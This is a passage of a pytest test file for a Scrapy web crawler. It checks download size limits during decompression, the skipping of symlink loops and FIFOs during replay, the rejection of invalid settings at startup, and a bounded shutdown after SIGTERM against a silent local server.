    assert f"exceeded DOWNLOAD_MAXSIZE ({MIB} B) during decompression" in result.stderr
    assert (
        f"Could not fetch {B}: its body (at least {2 * MIB} B) is larger than DOWNLOAD_MAXSIZE "
        f"({MIB} B)" in result.stderr
    )
    assert "big.txt: too large (the file (2097152 B) is larger than DOWNLOAD_MAXSIZE" in (
        result.stderr
    )
    assert sorted(stored(sqlite_url)) == sorted([C, D])
    # Decompression stopped at the limit: the replay never held the 256 MiB.
    peak_kb = int(result.stderr.rsplit("peak memory ", 1)[1].split()[0])
    assert peak_kb < 250 * 1024, peak_kb


# --- 13: links that loop, and files that are not files, in a replay ---------------------------


def small_mirror(folder: Path) -> Path:
    mirror = folder / "mirror"
    shutil.copytree(MIRROR / "www.ylwt22.com/xindetihui", mirror / "www.ylwt22.com/xindetihui")
    return mirror


XINDETIHUI = sorted(url for url in ALL if "/xindetihui/" in url)


def test_a_link_loop_is_skipped_and_the_rest_replayed(sqlite_url: str, tmp_path: Path) -> None:
    mirror = small_mirror(tmp_path)
    articles = mirror / "www.ylwt22.com/xindetihui/2023/0912"
    (articles / "315176.html").symlink_to("315176.html")  # a link to itself
    (mirror / "a.warc.gz").symlink_to("b.warc.gz")  # two links leading to each other
    (mirror / "b.warc.gz").symlink_to("a.warc.gz")
    (mirror / "www.ylwt22.com/up").symlink_to("..")  # a folder link back up: not followed
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    result = scrapy("replay", str(mirror), str(loop), env={"DATABASE_URL": sqlite_url},
                    timeout=60)  # fmt: skip
    assert_ok(result)
    assert stats(result.stderr, "replay/skipped/") == {"replay/skipped/symlink_loop": 4}
    for path in (articles / "315176.html", mirror / "a.warc.gz", mirror / "b.warc.gz", loop):
        assert f"Skipped {path}: symlink loop (a link that leads back to itself)" in result.stderr
    assert sorted(stored(sqlite_url)) == XINDETIHUI


def test_files_that_are_not_regular_files_are_never_opened(sqlite_url: str, tmp_path: Path) -> None:
    mirror = small_mirror(tmp_path)
    # A FIFO blocks whoever opens it for reading until a writer comes: none ever will.
    fifos = [
        mirror / "page.txt",
        mirror / "saved.warc.gz",
        mirror / "www.ylwt22.com/xindetihui/2023/0912/315176.html",
        tmp_path / "given.txt",
    ]
    for fifo in fifos:
        os.mkfifo(fifo)
    result = scrapy(
        "replay", str(mirror), str(tmp_path / "given.txt"), os.devnull,
        env={"DATABASE_URL": sqlite_url}, timeout=60,
    )  # fmt: skip
    assert_ok(result)
    assert stats(result.stderr, "replay/skipped/") == {"replay/skipped/not_regular_file": 5}
    for fifo in fifos:
        assert f"Skipped {fifo}: not regular file (it is a FIFO; only regular" in result.stderr
    assert f"Skipped {os.devnull}: not regular file (it is a character device;" in result.stderr
    assert sorted(stored(sqlite_url)) == XINDETIHUI


def test_a_saved_page_swapped_for_a_fifo_after_indexing_is_refused_at_once(
    tmp_path: Path,
) -> None:
    fifo = tmp_path / "315175.html"
    os.mkfifo(fifo)
    source = Source("mirror", B, str(fifo), fetched_at=datetime.now(UTC))
    outcome: list[BaseException | None] = []

    def read() -> None:
        try:
            read_source(source, MIB)
            outcome.append(None)
        except BaseException as exc:
            outcome.append(exc)

    reader = threading.Thread(target=read, daemon=True)  # daemon: never opened, or stuck
    reader.start()
    reader.join(timeout=10)
    assert not reader.is_alive(), "reading the FIFO blocked"
    [error] = outcome
    assert isinstance(error, OSError)
    assert str(error) == f"{fifo} is a FIFO, not a regular file"


# --- 14: settings out of range, and a crawl that will not stop --------------------------------


@pytest.mark.parametrize(
    ("command", "setting", "problem"),
    [
        ("crawl", "CONCURRENT_REQUESTS=0", "must be a whole number at least 1"),
        ("crawl", "CONCURRENT_REQUESTS=-1", "must be a whole number at least 1"),
        ("crawl", "CONCURRENT_REQUESTS_PER_DOMAIN=0", "must be a whole number at least 1"),
        ("crawl", "DOWNLOAD_MAXSIZE=abc", "must be a whole number at least 0"),
        ("crawl", "DOWNLOAD_DELAY=-1", "must be a number at least 0"),
        ("crawl", "DOWNLOAD_TIMEOUT=nan", "must be a number above 0"),
        ("crawl", "RETRY_TIMES=1.5", "must be a whole number at least 0"),
        ("crawl", "ROBOTSTXT_OBEY=maybe", "must be True or False (or 1, 0, true, false)"),
        ("crawl", "CRAWL_RATE=fast", "must be a number above 0, or unset"),
        ("crawl", "DATABASE_BATCH_SIZE=0", "must be a whole number at least 1"),
        ("crawl", "SHUTDOWN_TIMEOUT=0", "must be a number above 0"),
        ("replay", "CONCURRENT_ITEMS=0", "must be a whole number at least 1"),
        ("reextract", "DOWNLOAD_MAXSIZE=1e6", "must be a whole number at least 0"),
        ("crawl", "EXTRACT_WORKERS=-1", "must be a whole number at least 0"),
        ("replay", "EXTRACT_QUEUE=0", "must be a whole number at least 1"),
    ],
)
def test_a_bad_setting_is_refused_at_start_in_one_line(
    sqlite_url: str, tmp_path: Path, command: str, setting: str, problem: str
) -> None:
    # Offline: were a setting let through, the crawl would still contact no host.
    args = {"crawl": ["crawl", "ylwt22", "-s", f"OFFLINE_MIRROR={MIRROR}"],
            "replay": ["replay", str(MIRROR)], "reextract": ["reextract"]}[command]  # fmt: skip
    # Without the check, some of these hang for ever: the test would time out.
    result = scrapy(*args, "-s", setting, env={"DATABASE_URL": sqlite_url}, timeout=60)
    assert result.returncode == 2, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    errors = [line for line in result.stderr.splitlines() if "error" in line.lower()]
    assert errors == [f"error: bad setting {setting}: {problem}"]
    assert not Path(sqlite_url.removeprefix("sqlite:///")).exists()  # nothing was started


@pytest.mark.parametrize(
    ("setting", "problem"),
    [
        ("EXTRACT_PIPELINES=nowhere.Pipeline", "cannot import nowhere.Pipeline"),
        (
            "EXTRACT_PIPELINES=pipelines.clean.NoSuchPipeline",
            "pipelines.clean.NoSuchPipeline names nothing",
        ),
    ],
)
def test_a_pipeline_that_cannot_be_found_is_refused_at_start(
    sqlite_url: str, setting: str, problem: str
) -> None:
    result = scrapy(
        "crawl", "ylwt22", "-s", f"OFFLINE_MIRROR={MIRROR}", "-s", setting,
        env={"DATABASE_URL": sqlite_url}, timeout=60,
    )  # fmt: skip
    assert result.returncode == 2, result.stderr[-3000:]
    errors = [line for line in result.stderr.splitlines() if "error" in line.lower()]
    assert len(errors) == 1
    assert errors[0].startswith("error: bad setting EXTRACT_PIPELINES: ")
    assert problem in errors[0]


def test_every_number_and_switch_the_project_sets_has_a_rule() -> None:
    typed = {
        name
        for name, value in vars(project).items()
        if name.isupper() and isinstance(value, int | float) and name != "CRAWL_RATE"
    }
    assert typed - set(RULES) == set()
    assert "CRAWL_RATE" in RULES  # None by default, a number when set


def test_checking_the_settings_imports_nothing_heavy() -> None:
    # Every `scrapy` command imports the project's commands as it starts.
    code = (
        "import sys; import scrapy.settings; before = set(sys.modules); "
        "import crawler.checks; print(sorted(set(sys.modules) - before))"
    )
    result = subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT, capture_output=True,
                            text=True, check=True)  # fmt: skip
    assert json.loads(result.stdout.replace("'", '"')) == ["crawler", "crawler.checks"]


class SilentSite:
    """A server on 127.0.0.1 that accepts every connection and never answers."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        self.connections: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                self.connections.append(self._server.accept()[0])

    def close(self) -> None:
        self._server.close()
        for connection in self.connections:
            connection.close()


def test_a_crawl_that_cannot_close_ends_within_shutdown_timeout_of_sigterm(
    sqlite_url: str, tmp_path: Path
) -> None:
    site = SilentSite()
    env = {**os.environ, "PYTHONUNBUFFERED": "1", "DATABASE_URL": sqlite_url,
           "http_proxy": site.url, "no_proxy": "", "NO_PROXY": ""}  # fmt: skip
    # Scrapy's graceful close waits for the request in flight: here, for an hour.
    args = ["crawl", "ylwt22", *FAST, "-s", "DOWNLOAD_TIMEOUT=3600", "-s", "SHUTDOWN_TIMEOUT=2",
            "-s", f"WARC_DIR={tmp_path / 'warc'}"]  # fmt: skip
    process = subprocess.Popen(
        [sys.executable, "-m", "scrapy", *args], cwd=PROJECT_ROOT, env=env,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while not site.connections and time.monotonic() < deadline:
            assert process.poll() is None, process.communicate()[1][-3000:]
            time.sleep(0.1)
        assert site.connections, "the crawl never asked the site for anything"
        time.sleep(1)  # the crawl is waiting for its answer
        process.send_signal(signal.SIGTERM)
        signalled = time.monotonic()
        try:
            _, stderr = process.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            pytest.fail("the crawl was still running 30 s after SIGTERM")
        took = time.monotonic() - signalled
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        site.close()
    assert process.returncode == 1, stderr[-3000:]
    assert took < 2 + 8, took  # the bound, and the time to stop
    assert "Traceback" not in stderr
    [gave_up] = [line for line in stderr.splitlines() if " ERROR: " in line]
    assert gave_up.endswith(
        "The crawl did not end within SHUTDOWN_TIMEOUT (2s) of the signal to stop; stopping it now"
    )
    assert stderr.splitlines()[-1] == (
        "error: the crawl ended with 'shutdown_timeout': "
        "it did not end within SHUTDOWN_TIMEOUT (2 s)"
    )
